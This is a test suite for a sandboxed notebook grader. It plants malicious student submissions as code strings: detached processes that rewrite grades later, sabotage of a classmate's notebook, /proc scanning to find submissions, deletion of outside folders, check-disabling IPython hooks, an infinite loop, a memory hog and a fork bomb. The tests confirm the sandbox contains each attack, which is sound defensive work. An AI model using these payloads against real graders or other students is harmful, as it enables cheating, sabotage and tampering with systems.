"""Real malicious submissions against the sandboxed grader (needs bubblewrap, or unshare as root).

ONE grading run over a class of A1 submissions, each a different attack from issue 14, graded by
a subprocess on a THROWAWAY COPY of the package (so an escape could only damage that copy), with
the paths it would want to reach (results, a classmate's notebook, the package, a folder outside
the class) written into the attacks in plain text: the worst case, a student who knows them.
Then, 30 s after grading ended, nothing the grader wrote has changed and no process is left.
"""
from __future__ import annotations

import hashlib
import json
import os
import pathlib
import shutil
import subprocess
import sys
import tempfile
import time
import uuid

import pytest

from minichinchilla.assignments import nbtools
from minichinchilla.assignments.release import release

pytestmark = pytest.mark.sandbox

ROOT = pathlib.Path(__file__).resolve().parents[1]
SOURCE = ROOT / "notebooks" / "assignments"
A1 = "A1-backprop-basics.ipynb"
TOKEN = f"mc-attack-{uuid.uuid4().hex[:12]}"
FIRST_UID = 640000  # sandbox.FIRST_UID: every student process runs as a uid above it (root only)

ESCAPE = '''
import os, shutil, socket, subprocess, sys
OUT, VICTIM, PKG, OUTSIDE, MARK, TMPMARK, TOKEN = {paths!r}

def attempt(f):
    try:
        f()
    except BaseException:
        pass

LATE = (
    "import os, time\\n"
    "time.sleep(8)\\n"
    "for path, text in [(os.path.join(%r, 'grades.csv'), 'student,total\\\\nescape,62\\\\nvictim,0\\\\n'),"
    " (%r, 'x'), (%r, 'escaped')]:\\n"
    "    try:\\n"
    "        open(path, 'w').write(text)\\n"
    "    except OSError:\\n"
    "        pass\\n" % (OUT, VICTIM, MARK))

def late_writer():  # a detached process that should outlive the notebook and the grader
    subprocess.Popen([sys.executable, "-c", LATE, TOKEN], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

def double_fork():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", LATE, TOKEN])
        os._exit(0)

def from_proc():  # find the submissions folder in an ancestor's command line, then edit it
    for pid in os.listdir("/proc"):
        try:
            cmd = open(f"/proc/{{pid}}/cmdline", "rb").read().decode(errors="replace")
        except OSError:
            continue
        for word in cmd.split("\\0"):
            if os.path.isdir(word) and not word.startswith(("/usr", "/etc", "/proc", "/sys", "/dev", "/root", "/lib", "/bin", "/sbin", "/opt")) and word != "/":
                for dirpath, _, files in os.walk(word):
                    for f in files:
                        if f.endswith(".ipynb"):
                            attempt(lambda: open(os.path.join(dirpath, f), "a").write("x"))

attempt(late_writer)
attempt(double_fork)
attempt(from_proc)
attempt(lambda: open(VICTIM, "a").write("sabotage"))
attempt(lambda: open(os.path.join(OUT, "grades.csv"), "w").write("student,total\\nescape,62\\n"))
attempt(lambda: open(os.path.join(PKG, "minichinchilla", "assignments", "checks.py"), "a").write("\\nX = 1\\n"))
import minichinchilla.assignments.checks as _c
attempt(lambda: open(_c.__file__, "a").write("\\nX = 1\\n"))
attempt(lambda: shutil.rmtree(OUTSIDE))
attempt(lambda: open(MARK, "w").write("escaped"))
attempt(lambda: open(TMPMARK, "w").write("escaped"))
attempt(lambda: socket.create_connection(("1.1.1.1", 53), timeout=2).send(b"x"))
'''

TRANSFORMER = '''
ip = get_ipython()
ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])  # later cells become `pass`
'''

NOOP_CHECKS = '''
import minichinchilla.assignments.checks as _checks_module
for _n in dir(_checks_module):
    if not _n.startswith("__"):
        setattr(_checks_module, _n, lambda *a, **k: None)
checks.grad_check = lambda *a, **k: None

def softmax_backward(dout, cache):
    return np.zeros_like(dout)
'''

AST_TRY = '''
import ast

class _Swallow(ast.NodeTransformer):  # wraps every later statement in try/except
    def visit_Module(self, node):
        node.body = [ast.Try(body=[s], handlers=[ast.ExceptHandler(type=None, name=None,
                     body=[ast.Pass()])], orelse=[], finalbody=[]) for s in node.body]
        return ast.fix_missing_locations(node)

get_ipython().ast_transformers.append(_Swallow())

def cross_entropy_backward(dloss, cache):
    raise ValueError("no")
'''

RELOAD = '''
import importlib
import minichinchilla.functional.softmax as _S
_S = importlib.reload(_S)
softmax_backward = _S.softmax_backward
'''

REIMPORT_REAL = '''
import sys
PKG = {pkg!r}
for _k in [k for k in sys.modules if k.startswith("minichinchilla")]:
    del sys.modules[_k]
sys.path.insert(0, PKG)
from minichinchilla.functional import cross_entropy_backward
'''

INSPECT_EXEC = '''
import inspect
import minichinchilla.functional.embedding as _E
exec(inspect.getsource(_E))
'''

COPY_PACKAGE = '''
import importlib, os, shutil, sys
import minichinchilla
shutil.copytree(os.path.dirname(minichinchilla.__file__), "mc_copy")
sys.path.insert(0, os.getcwd())
softmax_backward = importlib.import_module("mc_copy.functional.softmax").softmax_backward
'''

TORCH = '''
import torch

def cross_entropy_backward(dloss, cache):
    probs, targets, ignore_index = cache
    z = torch.tensor(np.log(probs), requires_grad=True)
    t = torch.tensor(targets)
    loss = torch.nn.functional.cross_entropy(z.reshape(-1, z.shape[-1]), t.reshape(-1),
                                             ignore_index=ignore_index)
    (loss * float(dloss)).backward()
    return z.grad.numpy().astype(probs.dtype)
'''

NUMERICAL = '''
from minichinchilla.gradcheck import numerical_gradient

def embedding_backward(dout, cache):
    idx, E_shape, E_dtype = cache  # the lookup is linear: finite differences are exact
    E0 = np.zeros(E_shape)
    return numerical_gradient(lambda E: embedding_forward(idx, E)[0], E0, dout.astype(float)).astype(E_dtype)
'''

TUNED_TWIN = '''
from minichinchilla.functional.fast import softmax_backward  # the tuned kernel set's copy
'''

AUTOGRAD_ROUTE = '''
from minichinchilla.tensor import Tensor

def cross_entropy_backward(dloss, cache):  # re-express the loss with Tensor primitives
    probs, targets, ignore_index = cache
    V = probs.shape[-1]
    z = Tensor(np.log(probs).reshape(-1, V), requires_grad=True)
    t = targets.reshape(-1)
    valid = (t != ignore_index)
    onehot = np.eye(V)[np.where(valid, t, 0)] * valid[:, None]
    logp = z - z.exp().sum(axis=-1, keepdims=True).log()
    loss = (logp * Tensor(onehot)).sum() * (-float(dloss) / max(int(valid.sum()), 1))
    loss.backward()
    return z.grad.reshape(probs.shape).astype(probs.dtype)
'''

COPY_CLASSMATE = '''
import json
VICTIM = {victim!r}
_nb = json.load(open(VICTIM))
_src = [c for c in _nb["cells"] if c.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id") == "ex5_solution"]
exec("".join(_src[0]["source"]))
'''

FORGED_FORWARD = '''
def softmax_forward(x, axis=-1):  # the given forward, redefined to make zeros "correct"
    y = np.zeros_like(x)
    return y, (y, axis)

def softmax_backward(dout, cache):
    return np.zeros_like(dout)
'''

LOOP = '''
def softmax_backward(dout, cache):
    while True:
        try:
            pass
        except BaseException:
            pass
'''

MEMORY_HOG = '''
def cross_entropy_backward(dloss, cache):
    hog = np.ones((10 ** 11,))  # 800 GB
    return hog
'''

FORK_THEN_SOLVE = '''
import subprocess
_spawned = 0
for _ in range(500):  # a fork bomb, bounded by the sandbox's process limit
    try:
        subprocess.Popen(["sleep", "20"])
        _spawned += 1
    except OSError:
        break
'''


def _solution(nb, gid):
    return next(c for c in nb.cells if nbtools.grade_id(c) == gid)


def _with(nb, **cells):
    for gid, source in cells.items():
        c = _solution(nb, gid)
        c.source = source if source is not None else c.source
    return nb


def _tree_hash(root):
    h = {}
    for p in sorted(pathlib.Path(root).rglob("*")):
        if p.is_file() and "__pycache__" not in p.parts:  # the grader's own bytecode cache
            h[str(p.relative_to(root))] = hashlib.sha256(p.read_bytes()).hexdigest()
    return h


def _leftover_processes():
    """Processes of a student uid, or carrying an attack's token on their command line."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            uid = os.stat(f"/proc/{entry}").st_uid
            cmd = open(f"/proc/{entry}/cmdline", "rb").read().decode(errors="replace")
        except OSError:
            continue
        if TOKEN in cmd or (os.geteuid() == 0 and uid >= FIRST_UID):
            found.append((entry, uid, cmd[:100]))
    return found


def _build_class(base):
    pkg, src, subs = base / "pkg", base / "src", base / "subs"
    shutil.copytree(ROOT / "minichinchilla", pkg / "minichinchilla",
                    ignore=shutil.ignore_patterns("__pycache__"))
    src.mkdir()
    shutil.copy(SOURCE / A1, src / A1)
    outside = base / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("a file outside the class")
    released = base / "released"
    release(released, src)
    out, marker = base / "out", base / "escaped.txt"
    tmpmark = pathlib.Path(tempfile.gettempdir()) / f"{TOKEN}.txt"
    victim = subs / "victim" / A1
    inst = lambda: nbtools.read(src / A1)  # noqa: E731
    blank = lambda: nbtools.read(released / A1)  # noqa: E731
    paths = (str(out), str(victim), str(pkg), str(outside), str(marker), str(tmpmark), TOKEN)
    instructor_ex5 = _solution(inst(), "ex5_solution").source
    ex1_given = None
    students = {
        "honest": inst(),
        "victim": inst(),
        "blank": blank(),
        "escape": _with(blank(), ex1_solution=ESCAPE.format(paths=paths)),
        "transformer": _with(blank(), ex1_solution=TRANSFORMER),
        "noop_checks": _with(blank(), ex1_solution=NOOP_CHECKS, ex2_solution=AST_TRY),
        "reloader": _with(blank(), ex1_solution=RELOAD, ex2_solution=REIMPORT_REAL.format(pkg=str(pkg)),
                          ex5_solution=INSPECT_EXEC),
        "copier": _with(blank(), ex1_solution=COPY_PACKAGE, ex2_solution=TORCH, ex5_solution=NUMERICAL),
        "routes": _with(blank(), ex1_solution=TUNED_TWIN, ex2_solution=AUTOGRAD_ROUTE,
                        ex5_solution=COPY_CLASSMATE.format(victim=str(victim))),
        "forger": _with(blank(), ex1_solution=FORGED_FORWARD),
        "looper": _with(inst(), ex1_solution=LOOP),
        "hog": _with(inst(), ex2_solution=MEMORY_HOG, ex5_solution=FORK_THEN_SOLVE + instructor_ex5),
    }
    del ex1_given
    for name, nb in students.items():
        (subs / name).mkdir(parents=True)
        nbtools.write(nb, subs / name / A1)
    return dict(pkg=pkg, src=src, subs=subs, out=out, instructor=base / "instructor",
                outside=outside, marker=marker, tmpmark=tmpmark, victim=victim)


EXPECTED = {"honest": 16, "victim": 16, "blank": 0, "escape": 0, "transformer": 0, "noop_checks": 0,
            "reloader": 0, "copier": 0, "routes": 0, "forger": 0, "looper": 10, "hog": 10}


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    from minichinchilla.assignments import sandbox

    if sandbox.available_backend() is None:
        pytest.skip("no bubblewrap/unshare sandbox starts here")
    base = tmp_path_factory.mktemp("attacks")
    p = _build_class(base)
    before = {k: _tree_hash(p[k]) for k in ("pkg", "src", "subs", "outside")}
    cmd = [sys.executable, "-m", "minichinchilla.assignments", "grade", str(p["subs"]),
           "--out", str(p["out"]), "--source", str(p["src"]), "--instructor-dir", str(p["instructor"]),
           "--jobs", "2", "--cell-timeout", "8", "--notebook-timeout", "150"]
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "PYTHONPATH": str(p["pkg"]),
           "OPENBLAS_NUM_THREADS": "1", "HOME": str(base), "PYTHONDONTWRITEBYTECODE": "1"}
    t0 = time.monotonic()
    r = subprocess.run(cmd, capture_output=True, text=True, cwd=p["pkg"], env=env, timeout=400)
    ended = time.monotonic()
    snapshot = {q: q.read_bytes() for q in p["out"].rglob("*") if q.is_file()}
    yield dict(p, run=r, seconds=ended - t0, ended=ended, before=before, snapshot=snapshot)
    p["tmpmark"].unlink(missing_ok=True)


def _report(attacked, student):
    return json.loads((attacked["out"] / f"{student}.json").read_text())


def test_grading_ran_sandboxed(attacked):
    r = attacked["run"]
    assert r.returncode == 0, r.stdout[-3000:] + r.stderr[-3000:]
    meta = json.loads((attacked["out"] / "grades.meta.json").read_text())
    assert meta["sandboxed"] is True and meta["backend"] in ("bwrap", "unshare")


def test_scores_of_honest_blank_and_every_attack(attacked):
    rows = {}
    for line in (attacked["out"] / "grades.csv").read_text().splitlines()[1:]:
        cells = line.split(",")
        rows[cells[0]] = int(cells[-1])
    assert rows == EXPECTED, attacked["run"].stderr[-2000:]


def test_a_looping_or_crashing_exercise_loses_only_its_own_points(attacked):
    loop = _report(attacked, "looper")["exercises"]
    assert loop["ex1"]["points"] == 0
    assert all("timed out after" in c["message"] for c in loop["ex1"]["checks"].values())
    assert loop["ex2"]["points"] == 6 and loop["ex5"]["points"] == 4
    hog = _report(attacked, "hog")["exercises"]
    assert hog["ex2"]["points"] == 0 and hog["ex1"]["points"] == 6 and hog["ex5"]["points"] == 4


def test_nothing_outside_the_students_scratch_changed(attacked):
    after = {k: _tree_hash(attacked[k]) for k in ("pkg", "src", "subs", "outside")}
    assert after == attacked["before"]  # package, instructor notebooks, classmates, other folders
    assert not attacked["marker"].exists() and not attacked["tmpmark"].exists()
    victim = _report(attacked, "victim")
    assert victim["total"] == 16


def test_results_are_the_graders_alone_and_unchanged_30_s_later(attacked):
    for root in (attacked["out"], attacked["instructor"]):
        for q in [root, *root.rglob("*")]:
            st = q.stat()
            assert st.st_uid == os.geteuid() and not st.st_mode & 0o022, q  # only the grader writes
    wait = attacked["ended"] + 30 - time.monotonic()
    if wait > 0:
        time.sleep(wait)
    now = {q: q.read_bytes() for q in attacked["out"].rglob("*") if q.is_file()}
    assert now == attacked["snapshot"]
    assert not attacked["marker"].exists()
    assert _leftover_processes() == []  # nothing outlived its notebook, setsid or not


def test_feedback_holds_no_hidden_test_and_no_ansi(attacked):
    hidden = set()
    for _, _, c in nbtools.graded_cells(nbtools.read(attacked["src"] / A1)):
        for is_hidden, text in nbtools.split_hidden(c.source):
            if is_hidden:
                hidden |= {l.strip() for l in text.split("\n") if len(l.strip()) > 15}
    assert hidden
    for q in attacked["out"].rglob("*"):
        if q.is_file():
            text = q.read_text(encoding="utf-8")
            assert "\x1b[" not in text and "\\u001b" not in text and "(hidden)" not in text, q
            assert not any(line in text for line in hidden), q
            assert q.suffix != ".ipynb"
    assert (attacked["instructor"] / "escape" / A1).exists()  # the record lives outside --out


def test_suspicious_code_is_flagged_for_the_instructor(attacked):
    flagged = json.loads((attacked["instructor"] / "suspicion.json").read_text())
    what = {s: {f["what"] for items in nbs.values() for f in items} for s, nbs in flagged.items()}
    assert "subprocess" in what["escape"] and "path outside the notebook's folder" in what["escape"]
    assert {"importlib", "inspect", "exec/eval"} <= what["reloader"]
    assert {"torch", "numerical_gradient"} <= what["copier"]
    assert "get_ipython" in what["transformer"]
    assert "honest" not in flagged and "victim" not in flagged
    report = (attacked["instructor"] / "report.md").read_text()
    assert "escape" in report and "not penalised" in report


def test_one_student_grades_fast_enough(attacked):
    honest = _report(attacked, "honest")
    seconds = honest["notebooks"][A1]["seconds"]
    load = os.getloadavg()[0]
    # the bar is 15 s on 2 idle cores; a shared machine gets slack in proportion to load
    assert seconds <= 15 * max(1.0, load / 2), (seconds, load)


def test_plain_unshare_sandbox_stops_the_escapes_too(tmp_path):
    """The fallback where bubblewrap is missing: util-linux unshare + chroot + setpriv (root)."""
    from minichinchilla.assignments import sandbox
    from minichinchilla.assignments.grading import grade

    if not sandbox.works("unshare"):
        pytest.skip("plain unshare needs root and util-linux unshare/setpriv")
    p = _build_class(tmp_path)
    for name in list(p["subs"].iterdir()):
        if name.name not in ("honest", "escape", "victim"):
            shutil.rmtree(name)
    before = {k: _tree_hash(p[k]) for k in ("pkg", "src", "subs", "outside")}
    reports = grade(p["subs"], p["out"], p["src"], cell_timeout=8, notebook_timeout=120, jobs=2,
                    log=lambda m: None, instructor_dir=p["instructor"], sandbox_kind="unshare")
    assert {s: r["total"] for s, r in reports.items()} == {"honest": 16, "escape": 0, "victim": 16}
    assert json.loads((p["out"] / "grades.meta.json").read_text())["backend"] == "unshare"
    snapshot = {q: q.read_bytes() for q in p["out"].rglob("*") if q.is_file()}
    time.sleep(10)  # the escape's late writer fires 8 s after it starts
    assert {k: _tree_hash(p[k]) for k in ("pkg", "src", "subs", "outside")} == before
    assert {q: q.read_bytes() for q in p["out"].rglob("*") if q.is_file()} == snapshot
    assert not p["marker"].exists() and not p["tmpmark"].exists()
    assert _leftover_processes() == []


@pytest.mark.parametrize("backend", ["bwrap", "unshare"])
def test_the_sandbox_shows_no_folder_of_the_graders(tmp_path, monkeypatch, backend):
    """Not the working directory or a script's folder on sys.path, not the repository, not the
    real package, not /root or /home: only the system, Python's libraries, the copy, the scratch."""
    from minichinchilla.assignments import sandbox

    if not sandbox.works(backend):
        pytest.skip(f"{backend} sandbox unavailable here")
    secret = tmp_path / "cwd"
    secret.mkdir()
    (secret / "other-class.csv").write_text("secret")
    monkeypatch.syspath_prepend(str(secret))
    from minichinchilla.assignments.gradingcopy import make_grading_copy, package_dir

    lib = make_grading_copy(tmp_path / "lib", ["softmax_backward"])
    work = tmp_path / "work"
    work.mkdir()
    (work / "mine.txt").write_text("mine")
    hidden = [str(secret), str(ROOT), str(package_dir()), str(tmp_path)]
    probe = ("import os, json, importlib.util\n"
             f"seen = [os.path.exists(p) for p in {hidden!r}]\n"
             "import minichinchilla\n"
             # a module the copy leaves out must not be found elsewhere (an editable install's
             # finder points at the real tree)
             "missing = importlib.util.find_spec('minichinchilla.assignments.grading') is None\n"
             "pids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
             "print(json.dumps(seen + [minichinchilla.__file__.startswith('/grader/lib/'), missing,"
             " os.path.exists('/home/student/work/mine.txt'), os.access('/usr/bin', os.W_OK),"
             " len(pids) <= 3]))")
    box = sandbox.launch([sys.executable, "-c", probe], lib, work, sandbox.Limits(), backend,
                         stdin=subprocess.DEVNULL, stderr=subprocess.PIPE)
    out, err = box.proc.communicate(timeout=120)
    box.kill()
    assert json.loads(out) == [False] * 4 + [True, True, True, False, True], err
